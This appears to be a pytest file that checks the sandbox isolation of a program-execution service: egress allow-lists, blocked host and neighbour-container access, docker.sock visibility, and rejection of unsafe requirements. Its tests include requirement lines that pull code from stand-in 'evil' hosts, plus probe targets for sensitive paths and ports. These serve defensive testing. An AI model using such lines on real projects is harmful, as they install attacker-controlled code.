"""What a client's program can reach and see from inside its sandbox: only the egress gateway
(LM routes and the allow-list), never the host's other services, other addresses or another
client's files; no secrets in its environment. Requirements are installed only as plain
specifiers, one environment per requirements hash."""

from __future__ import annotations

import json
import subprocess

import docker
import pytest

from cli.processes import free_port
from doubles.gepa_repo import make_repo
from gepa_steps import egress, envs as gepa_envs
from tests.gepa_requests import step


async def test_a_program_reaches_only_the_gateway_and_sees_only_its_own_worktree(gepa_stack, gepa_http):
    other_client = await gepa_stack.connect(gepa_http)
    client_id = await gepa_stack.connect(gepa_http)
    # The other client's program host is running (it ran a step): its container is a neighbour.
    assert (await gepa_http.post("/execute_step", json=step(other_client, "neighbour1"))).json()["status"] == "success"
    docker_client = docker.from_env()
    neighbour = docker_client.containers.list(filters={"label": f"genesis.gepa.client={other_client}"})[0]
    neighbour_ip = neighbour.attrs["NetworkSettings"]["Networks"][gepa_stack.settings.gepa.network]["IPAddress"]
    network = docker_client.networks.get(gepa_stack.settings.gepa.network)
    assert network.attrs["Internal"] is True
    gateway = network.attrs["IPAM"]["Config"][0]["Gateway"]
    gateway_port = gepa_stack.settings.gepa.gateway_port
    forbidden_port, allowed_port = gepa_stack.forbidden[1], gepa_stack.allowed[1]
    targets = {
        "direct": {
            "gateway": [gateway, gateway_port],
            "host_service": [gateway, forbidden_port],  # listening on every host address
            "postgres": [gateway, 5432],
            "internet": ["192.0.2.200", 80],
            "other_client": [neighbour_ip, 8080],  # no inter-container traffic on the network
        },
        "proxied": {
            "allowed": f"http://127.0.0.1:{allowed_port}/",
            "not_allowed": f"http://127.0.0.1:{forbidden_port}/",
            "coder_route_guess": f"http://{gateway}:{gateway_port}/coder/chat/completions",
        },
        "paths": [
            str(gepa_stack.clone_of(other_client)),
            str(gepa_stack.settings.gepa.workspace_dir),
            "/work",
            "/var/run/docker.sock",
        ],
    }
    response = await gepa_http.post(
        "/execute_step",
        json=step(client_id, "probe1", entry_point="probe.Probe", test_examples=[{"question": json.dumps(targets)}]),
    )
    result = response.json()
    assert result["status"] == "success", result
    seen = json.loads(result["pipeline_outputs"][0]["output"]["answer"])
    assert seen["gateway"] == "open"
    assert seen["host_service"] == "blocked: TimeoutError"  # dropped by the GENESIS-GEPA chain
    assert seen["postgres"].startswith("blocked")
    assert seen["internet"].startswith("blocked")  # --internal: no route off the host
    assert seen["other_client"] == "blocked: TimeoutError"  # dropped (enable_icc=false), not even refused
    assert seen["allowed"] == f"reached {allowed_port}"
    assert seen["not_allowed"] == "HTTP 403"
    assert seen["coder_route_guess"] == "HTTP 403"  # the coding model's route is not the program's to guess
    assert seen["worktrees"] == ["probe1"]
    assert not any(seen["paths"].values()), seen["paths"]
    assert seen["secrets"] == []


async def test_requirements_other_than_plain_specifiers_fail_the_step(gepa_stack, gepa_http):
    repo = make_repo(gepa_stack.repo.parent / "repo-with-bad-requirements")
    (repo / "requirements.txt").write_text("dspy\n-e git+https://example.com/evil.git#egg=evil\n")
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}
    subprocess.run(["git", "commit", "-qam", "bad requirements"], cwd=repo, env=env, check=True)
    client_id = await gepa_stack.connect(gepa_http, repo)
    result = (await gepa_http.post("/execute_step", json=step(client_id, "reqs1"))).json()
    assert result["status"] == "failed"
    assert (
        "requirements.txt line 2 ('-e git+https://example.com/evil.git#egg=evil') is not a plain requirement specifier"
        in result["error"]
    )


def test_environment_keys_follow_the_requirements():
    assert gepa_envs.parse_requirements(
        "# c\nnumpy>=1.26,<3  # why\nrequests[socks]==2.32.3; python_version>='3.8'\n\n"
    ) == ["numpy>=1.26,<3", "requests[socks]==2.32.3; python_version>='3.8'"]
    for bad in (
        "--index-url https://evil/simple",
        "pkg @ https://evil/pkg.whl",
        "./local-dir",
        "https://evil/x.tar.gz",
        "-r other.txt",
    ):
        with pytest.raises(gepa_envs.RequirementsRejected):
            gepa_envs.parse_requirements(bad)
    base = gepa_envs.environment_key([], "dspy==3.4.1")
    assert gepa_envs.environment_key([], "dspy==3.4.1") == base
    assert gepa_envs.environment_key(["numpy"], "dspy==3.4.1") != base
    assert gepa_envs.environment_key(["a", "b"], "dspy==3.4.1") == gepa_envs.environment_key(["b", "a"], "dspy==3.4.1")


async def test_a_clients_own_allow_list_opens_only_its_own_programs_egress(gepa_stack, gepa_http):
    forbidden_port = gepa_stack.forbidden[1]
    target = f"127.0.0.1:{forbidden_port}"
    response = await gepa_http.post(
        "/connect-git", json={"repo_url": str(gepa_stack.repo), "egress_allow": [target, target]}
    )
    assert response.status_code == 201, response.text
    assert response.json()["egress_allow"] == [target]
    opened, closed = response.json()["client_id"], await gepa_stack.connect(gepa_http)
    targets = {"direct": {}, "proxied": {"page": f"http://{target}/"}, "paths": []}
    seen = {}
    for client_id, program_id in ((opened, "egress-own"), (closed, "egress-other")):
        result = (
            await gepa_http.post(
                "/execute_step",
                json=step(
                    client_id, program_id, entry_point="probe.Probe", test_examples=[{"question": json.dumps(targets)}]
                ),
            )
        ).json()
        assert result["status"] == "success", result
        seen[client_id] = json.loads(result["pipeline_outputs"][0]["output"]["answer"])["page"]
    assert seen == {opened: f"reached {forbidden_port}", closed: "HTTP 403"}
    bad = await gepa_http.post(
        "/connect-git", json={"repo_url": str(gepa_stack.repo), "egress_allow": ["evil.example.com"]}
    )
    assert bad.status_code == 422 and "must be host:port" in bad.json()["detail"]


def test_accept_rules_of_gateways_that_are_gone_are_pruned(gepa_stack):
    """A worker killed before closing its gateway port leaves an ACCEPT rule; the next worker's
    start removes every rule whose port nothing listens on, and keeps the live gateway's."""
    client = docker.from_env()
    gateway = egress.ensure_network(client, gepa_stack.settings.gepa.network)
    dead_port = free_port()
    egress.open_host_port(client, gepa_stack.settings.gepa.network, dead_port)
    assert dead_port in egress.prune_stale_ports(gateway)
    rules = subprocess.run(["iptables", "-S", egress.IPTABLES_CHAIN], capture_output=True, text=True, check=True).stdout
    assert f"--dport {dead_port} " not in rules
    assert f"--dport {gepa_stack.settings.gepa.gateway_port} -j ACCEPT" in rules
